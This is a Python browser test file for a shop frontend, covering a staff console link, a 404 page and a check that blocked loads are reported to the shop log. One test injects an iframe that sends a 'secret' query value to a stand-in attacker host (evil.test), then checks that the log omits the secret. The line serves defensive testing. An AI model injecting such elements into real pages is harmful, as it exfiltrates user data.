"""The shop, click by click: the example that frontends copy complains of nothing."""

from tests.browser.conftest import Browse
from tests.journeys.conftest import System

PHONE = {"width": 390, "height": 844}


def test_staff_come_to_the_console_by_one_click(browse: Browse, system: System) -> None:
    visit = browse()
    visit.goto(f"{system.way_in.shop_url}/staff")
    visit.page.get_by_role("button", name="Support").click()
    visit.page.wait_for_url(f"{system.way_in.base_url}/console")
    assert visit.page.get_by_role("heading", level=1).is_visible()


def test_what_is_not_there_is_said(browse: Browse, system: System) -> None:
    visit = browse()
    visit.expects("status of 404")
    assert visit.goto(f"{system.way_in.shop_url}/nowhere").status == 404
    assert visit.page.get_by_role("heading", level=1).is_visible()


def test_a_page_that_is_kept_from_something_tells_the_shop(browse: Browse, system: System) -> None:
    visit = browse()
    visit.expects(".")
    visit.goto(f"{system.way_in.shop_url}/checkout/{system.order()['id']}")
    visit.page.evaluate(
        """document.body.append(Object.assign(document.createElement('iframe'),
             {src: 'https://evil.test/?secret=1'}))"""
    )
    log = system.home.logs / "shop.log"
    visit.until(lambda: "evil.test" in log.read_text(encoding="utf-8"), timeout_s=30)
    assert "secret" not in log.read_text(encoding="utf-8")
